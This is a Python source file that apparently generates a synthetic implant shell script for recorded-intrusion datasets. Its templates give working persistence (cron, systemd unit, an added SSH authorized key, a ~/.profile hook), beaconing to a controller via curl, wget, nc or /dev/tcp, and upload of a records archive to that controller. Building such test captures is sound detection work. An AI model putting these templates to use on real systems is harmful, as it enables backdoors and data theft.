"""The program that a recorded intrusion leaves behind: a short shell script.

It is harmless by construction: it copies itself, makes itself start again, says hello to the
controller at an interval, sends one archive of generated records, and obeys nobody: whatever the
controller answers is thrown away.  The addresses in it are documentation addresses.
"""

PERSIST = {
    "cron": """\
    (crontab -l 2>/dev/null | grep -v "$HERE"; echo "* * * * * $HERE >/dev/null 2>&1") | crontab -
""",
    "unit": """\
    cat > /etc/systemd/system/{unit}.service <<END
[Unit]
Description={title}
After=network.target

[Service]
ExecStart=$HERE
Restart=always
RestartSec=5

[Install]
WantedBy=multi-user.target
END
    systemctl daemon-reload
    systemctl enable --now {unit}.service
    exit 0
""",
    "key": """\
    mkdir -p ~/.ssh
    chmod 700 ~/.ssh
    echo "{key}" >> ~/.ssh/authorized_keys
    chmod 600 ~/.ssh/authorized_keys
""",
    "profile": """\
    echo "(nohup $HERE >/dev/null 2>&1 &)" >> ~/.profile
""",
}

CALL = {
    "http-curl": """    curl -s -m 5{agent} -o /dev/null "http://$SERVER:$PORT{path}?id=$ID&n=$count"\n""",
    "http-wget": """    wget -q -T 5 -t 1{agent} -O /dev/null "http://$SERVER:$PORT{path}?id=$ID&n=$count"\n""",
    "tcp-nc": """    printf 'hello %s %s\\n' "$ID" "$count" | nc -N -w 5 "$SERVER" "$PORT" >/dev/null\n""",
    "tcp-bash": """\
    exec 3<>"/dev/tcp/$SERVER/$PORT" || return
    printf 'hello %s %s\\n' "$ID" "$count" >&3
    read -t 5 -r answer <&3
    exec 3>&-
""",
}

UPLOAD = {
    "put": """curl -s -m 60{agent} -T "$archive" "http://$SERVER:{port}/u/$ID.tgz" -o /dev/null""",
    "post": """curl -s -m 60{agent} --data-binary "@$archive" "http://$SERVER:{port}/u/$ID" -o /dev/null""",
    "wget": """wget -q -T 60{wget_agent} --post-file="$archive" -O /dev/null "http://$SERVER:{port}/u/$ID\"""",
    "nc": """nc -N -w 30 "$SERVER" {port} < "$archive" >/dev/null""",
}

# How the first packet of each upload begins, which is how it is found in the capture.
UPLOAD_STARTS = {"put": b"PUT ", "post": b"POST ", "wget": b"POST ", "nc": b""}

FUNCTIONS = """\
#!/bin/bash
# {title}
SERVER={server}
PORT={call_port}
INTERVAL={interval_s}
JITTER={jitter_percent}
HERE={here}
ID=$(hostname)-$(id -u)
count=0

persist() {{
    mkdir -p "$(dirname "$HERE")"
    cp "$0" "$HERE"
    chmod 755 "$HERE"
{persist}}}

call() {{
{call}}}

send() {{
    archive=/tmp/.$ID.tgz
    tar czf "$archive" -C /srv records
    {upload}
    rm -f "$archive"
}}

pause() {{
    sleep "$(awk -v i="$INTERVAL" -v j="$JITTER" \\
        'BEGIN {{ srand(); printf "%.2f", i * (1 + j / 100 * (2 * rand() - 1)) }}')"
}}

[ "$0" = "$HERE" ] || persist
exec 9> "/tmp/.$ID.lock"
flock -n 9 || exit 0
while true; do
    count=$((count + 1))
    call
    [ "$count" -ne {upload_after_calls} ] || send
    pause
done
"""

FLAT = """\
#!/bin/bash
HERE={here}
SERVER={server}; PORT={call_port}
ID=$(hostname)-$(id -u)
if [ "$0" != "$HERE" ]; then
    mkdir -p "$(dirname "$HERE")"; cp "$0" "$HERE"; chmod +x "$HERE"
{persist}fi
exec 9> "/var/tmp/.$ID"
flock -n 9 || exit 0
call() {{
{call}}}
for ((count = 1; ; count++)); do
    call
    if ((count == {upload_after_calls})); then
        archive=$(mktemp)
        tar cz -C /srv records > "$archive"
        {upload}
        rm "$archive"
    fi
    sleep "$(awk 'BEGIN {{ srand(); print {interval_s} * (1 + {jitter_percent} / 100 * (2 * rand() - 1)) }}')"
done
"""


def upload_port(chosen):
    return chosen["call_port"] if chosen["upload_to_call_port"] else chosen["upload_port"]


def text(chosen, public_key):
    agent = chosen["agent"]
    unit = chosen["program"].removesuffix(".sh")
    wget = f' -U "{agent}"' if agent else ""
    curl = f' -A "{agent}"' if agent else ""
    title = f"{unit} helper"
    here = chosen["folder"] + "/" + chosen["program"]
    return (FLAT if chosen["style"] else FUNCTIONS).format(
        title=title,
        server=chosen["name"] or chosen["controller"],
        here=here,
        call_port=chosen["call_port"],
        interval_s=chosen["interval_s"],
        jitter_percent=chosen["jitter_percent"],
        upload_after_calls=chosen["upload_after_calls"],
        persist=PERSIST[chosen["persistence"]].format(unit=unit, title=title, key=public_key),
        call=CALL[chosen["call"]].format(
            agent=wget if chosen["call"] == "http-wget" else curl, path=chosen["call_path"]
        ),
        upload=UPLOAD[chosen["upload"]].format(
            agent=curl, wget_agent=wget, port=upload_port(chosen)
        ),
    )
